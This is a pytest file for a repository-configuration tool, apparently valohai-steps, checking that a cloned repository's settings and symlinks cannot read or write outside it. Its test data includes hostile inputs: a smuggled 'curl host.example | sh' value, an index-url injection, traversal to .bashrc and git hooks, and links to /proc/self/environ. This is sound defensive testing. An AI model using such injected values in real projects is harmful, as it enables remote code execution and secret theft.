"""A cloned repository reaches nothing outside of itself: each setting, each link, each file it may bring."""

import os
import sys
from pathlib import Path

import pytest

from .conftest import Run, process, source

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="links")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home with a file that counts, and a repository in it."""
    (tmp_path / "clone" / ".git").mkdir(parents=True)
    (tmp_path / "clone" / "sub").mkdir()
    (tmp_path / "clone" / "train.py").write_text(source(lr=0.1))
    for name in (".bashrc", "steps.yaml", "requirements.txt"):
        (tmp_path / name).write_text("# mine\n")
    return tmp_path


def outside(home: Path) -> dict[str, bytes]:
    """Everything in the home but the clone's own files, which it may change."""
    git = [path for path in (home / "clone" / ".git").rglob("*") if path.is_file()]
    return {str(path): path.read_bytes() for path in [*home.iterdir(), *git] if path.is_file()}


def settle(home: Path, *lines: str) -> None:
    text = "\n".join(("[project]", 'name = "x"', "[tool.valohai-steps]", *lines, ""))
    (home / "clone" / "pyproject.toml").write_text(text)
    (home / "clone" / "requirements.txt").write_text("")


LINKS = {
    "link.yaml": "../steps.yaml",
    "folder": "..",
    "chain.yaml": "folder/steps.yaml",
    "link.txt": "../requirements.txt",
    "rc.txt": "../.bashrc",
    "hooks": ".git",
}
SETTINGS = [
    'yaml = "../steps.yaml"',
    'yaml = "{home}/steps.yaml"',
    'yaml = "sub/../../steps.yaml"',
    'yaml = "link.yaml"',
    'yaml = "folder/steps.yaml"',
    'yaml = "chain.yaml"',
    'yaml = "folder/new.yaml"',
    'yaml = ".git/config.yaml"',
    'yaml = "hooks/x.yaml"',
    'yaml = ".bashrc"',
    'yaml = "train.py"',
    'yaml = "a\\u0000.yaml"',
    'requirements = "../.bashrc"',
    'requirements = "{home}/.bashrc"',
    'requirements = "{home}/requirements.txt"',
    'requirements = "link.txt"',
    'requirements = "rc.txt"',
    'requirements = "folder/new.txt"',
    'requirements = ".git/hooks/pre-commit"',
    'requirements = "train.py"',
    'runtime = "x\\ncurl host.example | sh"',
    'runtime = "--index-url https://host.example x"',
    'runtime = "-e ."',
    'runtime = "a b"',
]


@pytest.mark.parametrize("setting", SETTINGS)
def test_a_setting_that_leads_outside_is_refused_with_its_line(
    setting: str, run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    for name, target in LINKS.items():
        (clone / name).symlink_to(target)
    settle(home, 'image = "python"', setting.replace("{home}", str(home)))
    before, names = outside(home), sorted(home.iterdir())
    monkeypatch.chdir(clone)
    result = run("update")
    assert (result.code, result.err.partition(": ")[0]) == (2, "pyproject.toml:5:1")
    assert result.err.endswith("(nothing was written)\n")
    assert (outside(home), sorted(home.iterdir())) == (before, names)
    assert not (clone / "valohai.yaml").exists()
    if not setting.startswith("requirements"):
        assert "pyproject.toml:5: warning: " in run("check").err


@pytest.mark.parametrize("setting", [each for each in SETTINGS if each.startswith("yaml")])
def test_it_refuses_the_update_of_a_script_without_prepare_too(
    setting: str, run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    for name, target in LINKS.items():
        (clone / name).symlink_to(target)
    lines = ("import argparse", "p = argparse.ArgumentParser()", "p.add_argument('--lr')", "p.parse_args()")
    (clone / "script.py").write_text("\n".join((*lines, "")))
    settle(home, 'image = "python"', setting.replace("{home}", str(home)))
    before = outside(home)
    monkeypatch.chdir(clone)
    result = run("update", "script.py")
    assert (result.code, result.err.partition(": ")[0]) == (2, "pyproject.toml:5:1")
    assert outside(home) == before
    assert not (clone / "valohai.yaml").exists()


@pytest.mark.parametrize("target", ["../steps.yaml", "../.bashrc", ".git/config", "../not-there.yaml"])
def test_a_valohai_yaml_that_is_a_link_to_the_outside_is_refused(
    target: str, run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    (clone / ".git" / "config").write_text("# git's\n")
    (clone / "valohai.yaml").symlink_to(target)
    before = outside(home)
    monkeypatch.chdir(clone)
    result = run("update")
    assert result.code == 2
    assert "outside of this project" in result.err
    assert outside(home) == before


@pytest.mark.parametrize("named", ["link.txt", "rc.txt", "folder/requirements.txt", "../requirements.txt"])
def test_a_requirements_file_that_a_command_names_outside_is_left_alone(
    named: str, run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    for name, target in LINKS.items():
        (clone / name).symlink_to(target)
    (clone / "valohai.yaml").write_text(
        f"- step: {{name: train, image: python, command: [pip install -r {named}, python ./train.py]}}\n"
    )
    before = outside(home)
    monkeypatch.chdir(clone)
    done, *told = run("update").err.splitlines()
    assert done == "valohai.yaml: updated: added lr"
    assert [line.startswith(f"{named}: leads to ") for line in told] == [True] * (not named.startswith(".."))
    assert outside(home) == before


def test_what_a_person_types_may_lie_anywhere(run: Run, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    settle(home, 'yaml = "../steps.yaml"', 'requirements = "../.bashrc"')
    monkeypatch.chdir(home / "clone")
    assert run("update", "--yaml", "../steps.yaml", "--requirements", "../requirements.txt").code == 0
    assert "name: train" in (home / "steps.yaml").read_text()
    assert (home / "requirements.txt").read_text() == "# mine\nvalohai-utils\n"
    assert (home / ".bashrc").read_text() == "# mine\n"


def test_what_lies_in_the_repository_may_be_named_from_below(
    run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    (clone / "sub" / "pyproject.toml").write_text('[tool.valohai-steps]\nyaml = "../all.yaml"\n')
    (clone / "sub" / "a.py").write_text(source("a", lr=0.1))
    (clone / "shared.yaml").write_text("")
    (clone / "all.yaml").symlink_to("shared.yaml")
    monkeypatch.chdir(clone / "sub")
    assert run("update", "--no-requirements").code == 0
    assert "name: a" in (clone / "shared.yaml").read_text()


def test_one_valohai_yaml_under_two_names_is_one_file(
    run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    (clone / "valohai.yaml").write_text("# one\n")
    (clone / "sub" / "valohai.yaml").symlink_to("../valohai.yaml")
    (clone / "sub" / "a.py").write_text(source("a", lr=0.1))
    monkeypatch.chdir(clone)
    assert run("update", "--no-requirements").code == 0
    text = (clone / "valohai.yaml").read_text()
    assert ("name: a" in text, "name: train" in text) == (True, True)


def test_one_python_file_under_two_names_is_one_file(
    run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    (clone / "a_link.py").symlink_to("train.py")
    monkeypatch.chdir(clone)
    assert run("update", "a_link.py", "train.py", "--no-requirements").code == 0
    assert run("update").code == 0
    assert run("check").err == "no findings in 2 files\n"  # train.py and valohai.yaml


@pytest.mark.parametrize("name", ["loop.py", "loop.ipynb", "sub/loop.py", "sub/valohai.yaml", "folder"])
def test_a_link_that_leads_to_itself_is_passed_over(
    name: str, run: Run, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = home / "clone"
    (clone / "sub").mkdir(exist_ok=True)
    (clone / name).symlink_to(Path(name).name)
    monkeypatch.chdir(clone)
    assert run("update").code == 0
    assert run("check").code == 0
    assert run("check", f"{name}/..").code == 0


@pytest.mark.parametrize("name", ["pyproject.toml", ".gitignore", "requirements.txt", "valohai.yaml", "x.py"])
@pytest.mark.parametrize("target", ["/dev/zero", "/dev/stdin", "pipe", "/proc/self/environ", "missing"])
def test_no_file_makes_a_command_wait(name: str, target: str, home: Path) -> None:
    clone = home / "clone"
    os.mkfifo(clone / "pipe")
    (clone / name).symlink_to(target)
    for command in ("check", "update", "show"):
        arguments = [command, "train.py"] if command == "show" else [command]
        done = process(clone, *arguments)  # within its time
        assert b"Traceback" not in done.stderr


@pytest.mark.parametrize(
    "text",
    [
        "a" + ".a" * 50_000 + " = 1\n",
        "[a" + ".a" * 50_000 + "]\n",
        "x = {a" + ".a" * 50_000 + " = 1}\n",
        '"' + "\\\\" * 50_000 + "\n",
        "x = " + "[" * 100_000 + "\n",
        "# " + "a." * 50_000 + "\n",
    ],
    ids=["dotted key", "dotted table", "inline table", "open string", "open lists", "comment"],
)
def test_a_pyproject_of_any_text_is_read_at_once(text: str, home: Path) -> None:
    (home / "clone" / "pyproject.toml").write_text(text + "[tool.valohai-steps]\nimage = 'x'\n")
    assert process(home / "clone", "check").returncode in (0, 1)
